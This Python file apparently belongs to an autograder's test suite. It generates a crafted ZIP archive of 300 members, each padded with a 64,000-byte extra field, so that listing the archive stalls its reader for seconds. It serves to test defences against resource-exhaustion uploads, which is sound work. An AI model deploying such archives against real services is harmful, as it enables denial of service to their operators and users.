"""Packs members with megabytes beside their names, which cost whoever lists them ten seconds

Earns: 0
"""

import struct


def build(class_, student):
    beside = struct.pack("<HH", 0x7777, 0) * 16_000
    members = []
    for number in range(300):
        name = b"vault/v%d.py" % number
        head = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), len(beside), 0, 0, 0, 0, 0)
        members.append(head + name + beside)
    body = b"".join(members)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(body), 0, 0)
    (class_ / f"{student}.zip").write_bytes(body + end)
